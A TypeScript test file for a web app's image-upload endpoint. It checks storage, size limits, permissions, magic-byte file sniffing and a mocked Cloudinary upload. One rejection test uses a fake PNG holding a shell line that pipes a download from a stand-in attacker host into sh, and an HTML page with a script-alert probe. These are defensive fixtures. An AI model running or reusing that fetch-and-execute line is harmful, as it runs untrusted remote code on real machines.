import { mkdtemp, readdir, rm } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createAuditRepository, tables } from '@qahwa/db';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadConfig } from '../src/config';
import { cloudinarySignature, createCloudinaryImageStore } from '../src/uploads/cloudinary';
import { sniffImage } from '../src/uploads/sniff';
import { type Gateway, startGateway } from './harness';
import { staffCookie } from './staff-session';

/** A real 1×1 PNG. */
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);
const MB = 1024 * 1024;

let gw: Gateway;
let dir: string;
let cookie: string;

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'qahwa-uploads-'));
  const base = loadConfig({ NODE_ENV: 'test' });
  gw = await startGateway({ config: { uploads: { ...base.uploads, dir, cloudinary: null } } });
  ({ cookie } = await staffCookie(gw, {
    permissions: [{ module: 'products', canView: true, canEdit: true }],
  }));
});
afterAll(async () => {
  await gw?.close();
  await rm(dir, { recursive: true, force: true });
});

const upload = (folder: string, body: Buffer, headers: Record<string, string> = {}, query = '') =>
  gw.app.inject({
    method: 'POST',
    url: `/api/uploads/${folder}${query}`,
    headers: { cookie, 'content-type': 'image/png', ...headers },
    payload: body,
  });

/** What is in the uploads folder, temporary files included. */
const onDisk = async () => (await readdir(dir)).sort();

describe('uploading an image (SPEC 5, 7)', () => {
  it('stores a PNG, answers public_id, secure_url, format and bytes, and serves it cached for a year', async () => {
    const res = await upload('products', PNG, {}, '?name=beans.png');
    expect(res.statusCode).toBe(201);
    const result = res.json();
    expect(result).toMatchObject({ format: 'png', bytes: PNG.length });
    expect(result.public_id).toMatch(/^products\/[a-f0-9]{64}$/);
    expect(result.secure_url).toMatch(/^\/api\/uploads\/files\/[a-f0-9]{64}\.png$/);

    const served = await gw.app.inject({ method: 'GET', url: result.secure_url });
    expect(served.statusCode).toBe(200);
    expect(served.headers['content-type']).toBe('image/png');
    expect(served.headers['cache-control']).toBe('public, max-age=31536000, immutable');
    expect(served.rawPayload.equals(PNG)).toBe(true);

    // Recorded, with who uploaded it, and audited under products.
    const [row] = await gw.db
      .select()
      .from(tables.uploads)
      .where(eq(tables.uploads.publicId, result.public_id));
    expect(row).toMatchObject({ folder: 'products', storage: 'local', bytes: PNG.length });
    const [entry] = await createAuditRepository(gw.db).list({ entityId: result.public_id });
    expect(entry).toMatchObject({ module: 'products', action: 'upload', entityType: 'image' });

    // The same picture again is the same file.
    const again = await upload('products/gallery', PNG);
    expect(again.json().secure_url).toBe(result.secure_url);
    expect((await onDisk()).filter((f) => f.endsWith('.png'))).toHaveLength(1);
  });

  it('refuses a file named .png that is really a script, by its bytes, and leaves nothing on disk', async () => {
    const before = await onDisk();
    const script = Buffer.from('#!/bin/sh\ncurl https://evil.example/x | sh\n');
    const res = await upload('products', script, { 'content-type': 'image/png' }, '?name=evil.png');
    expect(res.statusCode).toBe(415);
    expect(res.json()).toMatchObject({
      success: false,
      code: 'UPLOAD_INVALID_TYPE',
      error: 'Invalid file type: evil.png. Please use JPG, PNG, WEBP, or AVIF.',
    });
    // An HTML page claiming to be an image is no better.
    const html = await upload('products', Buffer.from('<html><script>alert(1)</script></html>'), {
      'content-type': 'image/webp',
    });
    expect(html.statusCode).toBe(415);
    expect(await onDisk()).toEqual(before);
  });

  it('refuses an 11 MB image with the SPEC 5 message, in English and Arabic, and leaves nothing on disk', async () => {
    const before = await onDisk();
    const big = Buffer.concat([PNG, Buffer.alloc(11 * MB - PNG.length, 7)]);
    const en = await upload('products', big, { 'x-locale': 'en' });
    expect(en.statusCode).toBe(413);
    expect(en.json()).toMatchObject({
      code: 'UPLOAD_TOO_LARGE',
      error: 'File size exceeds 10MB limit. Current size: 11.00 MB',
    });
    const ar = await upload('products', big, { 'x-locale': 'ar' });
    expect(ar.json().error).toBe(
      'حجم الملف يتجاوز الحد الأقصى البالغ 10 ميغابايت. الحجم الحالي: 11.00 ميغابايت',
    );
    expect(await onDisk()).toEqual(before);
  });

  it('takes exactly 10 MB (the limit is inclusive)', async () => {
    const edge = Buffer.concat([PNG, Buffer.alloc(10 * MB - PNG.length, 1)]);
    const res = await upload('products', edge);
    expect(res.statusCode).toBe(201);
    expect(res.json().bytes).toBe(10 * MB);
  });

  it('needs the folder’s module with edit: a products editor cannot upload a slider', async () => {
    const res = await upload('sliders', PNG);
    expect(res.statusCode).toBe(403);
  });

  it('tells the formats apart by their magic bytes', () => {
    expect(sniffImage(Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0]))).toBe('jpg');
    expect(sniffImage(PNG)).toBe('png');
    expect(sniffImage(Buffer.from('RIFF\x24\x00\x00\x00WEBPVP8 ', 'latin1'))).toBe('webp');
    const avif = Buffer.concat([
      Buffer.from([0, 0, 0, 0x1c]),
      Buffer.from('ftypavif\0\0\0\0avifmif1miaf', 'latin1'),
    ]);
    expect(sniffImage(avif)).toBe('avif');
    expect(sniffImage(Buffer.from('GIF89a'))).toBeNull();
    expect(sniffImage(Buffer.from('%PDF-1.7'))).toBeNull();
  });
});

describe('Cloudinary, when its keys are set', () => {
  let server: Server;
  let base: string;
  const seen: { path: string; fields: Record<string, string>; fileBytes: number }[] = [];

  beforeAll(async () => {
    // A stand-in for Cloudinary's upload API, following its documented contract: multipart
    // fields, a SHA-1 signature over the sorted parameters and the secret, and the answer's fields.
    server = createServer(async (req, res) => {
      const request = new Request(`http://x${req.url}`, {
        method: req.method,
        headers: req.headers as Record<string, string>,
        body: req as unknown as ReadableStream,
        duplex: 'half',
      } as RequestInit);
      const form = await request.formData();
      const fields: Record<string, string> = {};
      let fileBytes = 0;
      for (const [k, v] of form.entries()) {
        if (typeof v === 'string') fields[k] = v;
        else fileBytes = v.size;
      }
      seen.push({ path: req.url ?? '', fields, fileBytes });
      const { signature, api_key, ...signed } = fields;
      res.setHeader('content-type', 'application/json');
      if (api_key !== 'key123' || signature !== cloudinarySignature(signed, 'secret456')) {
        res.statusCode = 401;
        res.end(JSON.stringify({ error: { message: 'Invalid Signature' } }));
        return;
      }
      const publicId = `${fields.folder}/${fields.public_id ?? 'generated'}`;
      res.end(
        JSON.stringify({
          public_id: publicId,
          secure_url: `https://res.cloudinary.com/demo/image/upload/v1/${publicId}.png`,
          format: 'png',
          bytes: fileBytes,
          width: 1,
          height: 1,
        }),
      );
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const address = server.address();
    base = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
  });
  afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

  const settings = (apiSecret: string) => ({
    cloudName: 'demo',
    apiKey: 'key123',
    apiSecret,
    uploadPreset: 'qahwa_staff',
    apiBase: base,
    requestTimeoutMs: 5000,
  });

  it('sends a signed upload with folder, public_id, tags and the preset, and returns its fields', async () => {
    const store = createCloudinaryImageStore(settings('secret456'));
    const result = await store.put({
      bytes: PNG,
      format: 'png',
      folder: 'products',
      publicId: 'ethiopia',
      tags: ['catalogue'],
    });
    expect(result).toEqual({
      public_id: 'products/ethiopia',
      secure_url: 'https://res.cloudinary.com/demo/image/upload/v1/products/ethiopia.png',
      format: 'png',
      bytes: PNG.length,
    });
    expect(seen.at(-1)).toMatchObject({
      path: '/v1_1/demo/image/upload',
      fields: { folder: 'products', public_id: 'ethiopia', tags: 'catalogue', upload_preset: 'qahwa_staff' },
      fileBytes: PNG.length,
    });
  });

  it('passes the provider’s refusal on as its message', async () => {
    const store = createCloudinaryImageStore(settings('wrong-secret'));
    await expect(store.put({ bytes: PNG, format: 'png', folder: 'sliders', tags: [] })).rejects.toMatchObject(
      {
        kind: 'provider',
        message: 'Invalid Signature',
      },
    );
  });
});
